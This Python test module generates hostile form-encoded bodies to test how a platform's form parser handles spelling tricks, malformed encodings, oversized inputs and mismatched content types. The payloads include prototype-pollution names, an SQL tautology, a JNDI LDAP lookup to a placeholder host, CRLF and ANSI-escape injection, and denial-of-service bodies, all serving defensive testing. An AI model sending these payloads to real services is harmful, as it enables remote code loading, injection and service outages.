"""Hostile forms, for platforms that send forms. `%s` stands for fields that make the form valid."""

from collections.abc import Iterator

from support.probes.probe import (
    ACCEPTED,
    BINARY,
    CANARY,
    FORM,
    INVALID,
    JSON,
    TOO_BIG,
    UNREADABLE,
    Headers,
    Probe,
    Right,
    posting,
)

_SPELLINGS = {
    "bare brackets": b"order[id]=1",
    "small hexadecimal": b"order%5bid%5d=1",
    "all encoded": b"%6F%72%64%65%72%5B%69%64%5D=%31",
    "the last of two counts": b"order[id]=x&order[id]=1",
    "empty fields": b"&&&order[id]=1&&&",
    "a byte order mark": b"\xef\xbb\xbforder[id]=1",
    "a blank behind the separator": b"a=1& order[id]=1",
}
_FIELDS = {
    "names of our metadata": b"metadata[event_id]=x&order[metadata]=x&detail-type=x&source=x",
    "names of prototypes": b"__proto__[x]=1&order[__proto__][x]=1&constructor[prototype][x]=1",
    "names of Python": b"__class__=x&order[__dict__][x]=1&order[model_config]=x",
    "an empty name inside": b"order[note][]=1&order[a][][]=2",
    "a name of brackets": b"order[[x]]=1",
    "text behind the brackets": b"order[x]y=1&order[x]y[z]=2",
    "an unclosed bracket": b"order[x=1",
    "brackets turned round": b"order]x[=1",
    "brackets encoded twice": b"order%255Bx%255D=1",
    "points": b"order.x.y=1",
    "a null in a name": b"order[%00]=1",
    "a null in a value": b"order[x]=a%00b",
    "line breaks": f"order[x%0D%0A{CANARY}]=%0D%0A{CANARY}".encode(),
    "raw line breaks": f"order[x]=\r\n{CANARY}\r\n".encode(),
    "ANSI escapes": f"order[x]=%1B[2J%1B[31m{CANARY}".encode(),
    "direction": b"order[x]=%E2%80%AE12",
    "JSON": b'order[x]=%7B%22a%22:1%7D&payload={"order":{"id":2}}',
    "SQL": b"order[x]='%20OR%20'1'='1",
    "a lookup": b"order[x]=${jndi:ldap://host.example/a}",
    "semicolons": b"order[x]=1;order[y]=2",
    "signs of equality": b"order[x]===1==2",
    "plus": b"order[x]=1+2%2B3",
    "raw UTF-8": "order[שם]=שלום".encode(),
    "another body's fields": b"_method=delete&utf8=%E2%9C%93&authenticity_token=x",
    "9,000 fields": b"&".join(b"order[a%d]=1" % n for n in range(9_000)),
    "9,000 times the same": b"&".join([b"order[a]=1"] * 9_000),
    "a list of 9,000": b"&".join([b"order[a][]=1"] * 9_000),
    "9,000 objects": b"&".join([b"order[a][][b]=1"] * 9_000),
    "9,000 objects of objects": b"&".join([b"order[a][][b][c][d]=1"] * 9_000),
    "objects of 4,500 fields": b"&".join(b"order[a][][b%d]=1" % n for n in range(4_500)) * 2,
    "31 deep": b"order" + b"[a]" * 31 + b"=1",
    "lists 31 deep": b"order[a]" + b"[][a]" * 15 + b"=1",
    "a value of a megabyte": b"order[a]=" + b"x" * 1_000_000,
    "a name of a megabyte": b"order[" + b"x" * 1_000_000 + b"]=1",
    "a megabyte of percent": b"order[a]=" + b"%41" * 333_333,
    "a megabyte of plus": b"order[a]=" + b"+" * 1_000_000,
}
_NO_ORDER = {
    "a text for the order": b"order=1",
    "a list for the order": b"order[]=1",
    "orders for the order": b"order[][id]=1",
    "a list for the id": b"order[id][]=1",
    "an object for the id": b"order[id][x]=1",
    "no text for the id": b"order[id]&a=1",
    "nothing for the id": b"order[id]=",
    "another spelling": b"Order[id]=1",
    "points": b"order.id=1",
    "encoded twice": b"order%255Bid%255D=1",
    "a blank": b"order[id]=+1",
    "a line break behind": b"order[id]=1%0A",
    "a raw line break behind": b"order[id]=1\n",
    "semicolons": b"order[id]=1;order[name]=x",
    "full-width digits": b"order[id]=%EF%BC%91",
    "a way up": b"order[id]=..%2F1",
    "a fraction": b"order[id]=1.0",
    "a boolean": b"order[id]=true",
    "20 digits": b"order[id]=" + b"1" * 20,
    "a null in the name": b"order%00[id]=1",
    "a blank in the name": b"order+[id]=1",
    "a blank in the brackets": b"order[+id]=1",
    "full-width brackets": "order\uff3bid\uff3d=1".encode(),
    "JSON in a field": b'payload={"order":{"id":1}}',
    "JSON for the order": b'order={"id":1}',
}
_UNREADABLE = {
    "11,000 fields": b"&".join(b"order[a%d]=1" % n for n in range(11_000)),
    "a million separators": b"a=1" + b"&" * 1_000_000,
    "33 deep": b"order" + b"[a]" * 33 + b"=1",
    "100,000 brackets": b"order" + b"[a]" * 100_000 + b"=1",
    "a megabyte of opening brackets": b"order" + b"[" * 1_000_000 + b"=1",
    "a megabyte of empty brackets": b"order" + b"[]" * 500_000 + b"=1",
    "encoded brackets, 10,000": b"order" + b"%5B%5D" * 10_000 + b"=1",
    "a text, then an object": b"order=1&order[id]=1",
    "an object, then a text": b"order[id]=1&order=1",
    "an object, then a list": b"order[id]=1&order[]=1",
    "a list, then an object": b"order[]=1&order[id]=1",
    "a text, then a list": b"order=1&order[]=1",
    "a text inside, then an object": b"order[a]=1&order[a][b][c]=2",
    "no name": b"=1&order[id]=1",
    "no name and no value": b"=",
    "a lone percent": b"order[id]=1&a=%",
    "half a percent": b"order[id]=1&a=%4",
    "no hexadecimal": b"order[id]=1&a=%zz",
    "a percent of JavaScript's": b"order[id]=1&a=%u05D0",
    "a percent in a name": b"order[id]=1&%=1",
    "no UTF-8": b"order[id]=1&a=%FF%FE",
    "windows-1255": b"order[id]=1&order[name]=%F9%EC%E5%ED",
    "raw windows-1255": b"order[id]=1&order[name]=\xf9\xec\xe5\xed",
    "an overlong slash": b"order[id]=1&a=%C0%AF",
    "a surrogate": b"order[id]=1&a=%ED%A0%80",
    "half a character": b"order[id]=1&a=%D7",
    "no UTF-8 in a name": b"order[id]=1&%FF=1",
}
_TOO_BIG = {
    "1.6 megabytes": b"order[id]=1&a=" + b"x" * 1_600_000,
    "4 megabytes of brackets": b"a=" + b"[" * 4_000_000,
}
_NO_FORMS = {
    "XML": b'<?xml version="1.0"?><order id="1"><name>x</name></order>',
    "HTML": b'<html><body class="a">id=1</body></html>',
    "multipart": b'--x\r\nContent-Disposition: form-data; name="order[id]"\r\n\r\n1\r\n--x--',
    "YAML": b"order:\n  name: a=b\n",
    "a setting": b"[order]\nid=1\n",
    "an e-mail": b"Subject: order\r\n\r\nid=1",
    "JSON and an equals sign": b'{"order":{"id":1}}=',
    "a JSON text": b'"order[id]=1"',
    "text": b"order 1",
    "nothing": b"",
    "separators": b"&&&&",
    "nulls": b"\x00\x00=\x00",
}
# Of JSON and forms, the bytes decide.
_LIES: tuple[Headers, ...] = (
    JSON,
    BINARY,
    (("Content-Type", "multipart/form-data; boundary=x"),),
    (("Content-Type", "text/plain"),),
    (("Content-Type", "application/x-www-form-urlencoded; charset=windows-1255"),),
    (),
)
_ID = b"order[id]=1"


def no_form_probes(topic: str) -> Iterator[Probe]:
    """What is neither JSON nor a form, at a topic whose schema insists on nothing."""
    for name, body in _NO_FORMS.items():
        yield Probe(f"no form, {topic}", name, posting(body, FORM), UNREADABLE, topic)


def form_probes(topic: str) -> Iterator[Probe]:
    """Forms of a topic that insists on `order[id]`, a number."""
    bodies: dict[str, tuple[dict[str, bytes], Right]] = {
        "form's spelling": (_SPELLINGS, ACCEPTED),
        "form's fields": ({k: _ID + b"&" + v for k, v in _FIELDS.items()}, ACCEPTED),
        "form without an order": (_NO_ORDER, INVALID),
        "form that is none": (_UNREADABLE, UNREADABLE),
        "form of many bytes": (_TOO_BIG, TOO_BIG),
    }
    for group, (forms, right) in bodies.items():
        for name, body in forms.items():
            yield Probe(group, name, posting(body, FORM), right, topic)
    for headers in _LIES:
        title = headers[0][1] if headers else "none"
        yield Probe("form under another type", title, posting(_ID, headers), ACCEPTED, topic)
